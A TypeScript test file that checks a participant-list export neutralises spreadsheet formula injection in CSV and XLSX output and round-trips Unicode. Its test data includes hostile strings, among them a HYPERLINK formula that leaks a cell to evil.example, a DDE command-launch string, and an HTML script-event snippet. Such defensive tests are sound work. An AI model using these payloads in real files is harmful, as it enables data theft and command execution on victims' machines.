import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { EXPORT_CHUNK_BYTES, type Participant } from '../../contract';
import type { Db } from '../db/connection';
import { ExportChunks } from './export_chunks';
import { buildExport, EXPORT_HEADERS, neutraliseCell, restoreCell } from './participant_export';
import { listParticipants } from './participant_search';
import { addPeople, openTestEvent, testPerson } from './participants_test_helpers';

let event: ReturnType<typeof openTestEvent>;
let db: Db;
let people: Participant[];
const filter = { query: '', direction: 'asc' as const, locale: 'en' };

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '  =cmd|" /C calc"!A0',
  '＝1+1',
  '<b onmouseover=alert(1)>x</b>',
  '\u202egnp.exe',
  'a\u200bb',
  '"quoted", with comma\nand newline',
  '😀👨‍👩‍👧',
  'Ä'.repeat(600),
];

beforeAll(() => {
  event = openTestEvent();
  db = event.db;
  addPeople(db, [
    testPerson({ displayName: '김민준', familyName: 'Kim', givenName: 'Min-jun', nativeName: '김민준', country: 'KR', phone: '+82 10-4821-3307', email: 'minjun.kim@example.org', delegation: 'Republic of Korea' }),
    testPerson({ displayName: 'محمد علي', nativeName: 'محمد علي', country: 'EG', notes: 'Halal meals' }),
    ...HOSTILE.map((h, i) => testPerson({ displayName: `Hostile ${i}`, familyName: h, organisation: h, notes: h, externalId: `H-${i}` })),
  ]);
  people = listParticipants(db, { query: '', limit: 500, offset: 0 }).items;
});
afterAll(() => event.close());

test('cells that a spreadsheet would run as a formula are made inert, and restored exactly', () => {
  for (const text of ['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1', '  =1', '＝1', '＋1', '－1', '＠1']) {
    expect(neutraliseCell(text)).toBe(`'${text}`);
    expect(restoreCell(neutraliseCell(text))).toBe(text);
  }
  for (const text of ['Kim', "O'Brien", "'quoted", '1-2', 'a=b', '']) {
    expect(neutraliseCell(text)).toBe(text);
    expect(restoreCell(text)).toBe(text);
  }
});

test('CSV: UTF-8 with BOM, CRLF, one row per person in list order, every field round-trips', async () => {
  const built = await buildExport(db, filter, 'csv', '2026-12-01');
  expect(built.fileName).toBe('participants-2026-12-01.csv');
  expect([...built.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = built.bytes.toString('utf8').slice(1);
  expect(text.endsWith('\r\n')).toBe(true);
  const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  const [header, ...rows] = parsed.data;
  expect(header).toEqual([...EXPORT_HEADERS]);
  expect(rows).toHaveLength(people.length);
  expect(built.rowCount).toBe(people.length);
  const col = (name: string) => EXPORT_HEADERS.indexOf(name);
  rows.forEach((row, i) => {
    const p = people[i] as Participant;
    expect(restoreCell(row[col('Family name')] ?? '')).toBe(p.familyName);
    expect(restoreCell(row[col('Organisation')] ?? '')).toBe(p.organisation);
    expect(restoreCell(row[col('Notes for staff')] ?? '')).toBe(p.notes);
    expect(restoreCell(row[col('Phone')] ?? '')).toBe(p.phone);
    expect(row[col('Display name')]).toBe(p.displayName);
    expect(row[col('Registration number')]).toBe(p.externalId ?? '');
    // No cell, as written, starts like a formula.
    for (const cell of row) expect(/^\s*[=+\-@\t\r＝＋－＠]/u.test(cell)).toBe(false);
  });
  const korea = rows.find((r) => r[col('Display name')] === '김민준');
  expect(korea?.[col('Country')]).toBe('South Korea');
  expect(korea?.[col('Phone')]).toBe("'+82 10-4821-3307");
  expect(korea?.[col('Head of delegation')]).toBe('');
});

test('XLSX: one sheet, every cell text, formulas inert, hostile strings intact', async () => {
  const built = await buildExport(db, { ...filter, locale: 'ko' }, 'xlsx', '2026-12-01');
  expect(built.mimeType).toContain('spreadsheetml');
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(built.bytes as unknown as ArrayBuffer);
  const sheet = book.worksheets[0];
  expect(sheet?.rowCount).toBe(people.length + 1);
  const header = (sheet?.getRow(1).values as unknown[]).slice(1);
  expect(header).toEqual([...EXPORT_HEADERS]);
  const familyCol = EXPORT_HEADERS.indexOf('Family name') + 1;
  const countryCol = EXPORT_HEADERS.indexOf('Country') + 1;
  people.forEach((p, i) => {
    const cell = sheet?.getRow(i + 2).getCell(familyCol);
    expect(cell?.type).toBe(p.familyName ? ExcelJS.ValueType.String : ExcelJS.ValueType.Null); // never a formula
    expect(restoreCell(String(cell?.value ?? ''))).toBe(p.familyName);
  });
  expect(sheet?.getRow(2).getCell(countryCol).value).toBe('대한민국');
});

test('the export follows the list: search, filter and sort', async () => {
  const built = await buildExport(db, { ...filter, query: 'hostile', sort: 'name', direction: 'desc' }, 'csv', '2026-12-01');
  const rows = Papa.parse<string[]>(built.bytes.toString('utf8').slice(1), { skipEmptyLines: true }).data.slice(1);
  expect(rows).toHaveLength(HOSTILE.length);
  const names = rows.map((r) => r[EXPORT_HEADERS.indexOf('Display name')]);
  expect(names).toEqual([...names].sort().reverse());
});

test('built files are fetched in chunks, then forgotten; old ones expire', () => {
  let clock = 0;
  const chunks = new ExportChunks(() => clock);
  const bytes = Buffer.alloc(EXPORT_CHUNK_BYTES * 2 + 10, 7);
  const { exportId, chunkCount } = chunks.put(bytes);
  expect(chunkCount).toBe(3);
  const parts = [0, 1, 2].map((i) => chunks.chunk(exportId, i));
  expect(parts.map((p) => p.ok && p.value.last)).toEqual([false, false, true]);
  const joined = Buffer.concat(parts.map((p) => (p.ok ? Buffer.from(p.value.base64, 'base64') : Buffer.alloc(0))));
  expect(joined.equals(bytes)).toBe(true);
  expect(chunks.chunk(exportId, 0).ok).toBe(false);
  const second = chunks.put(Buffer.from('x'));
  clock += 11 * 60 * 1000;
  const expired = chunks.chunk(second.exportId, 0);
  expect(expired.ok ? null : expired.error.code).toBe('expired');
});
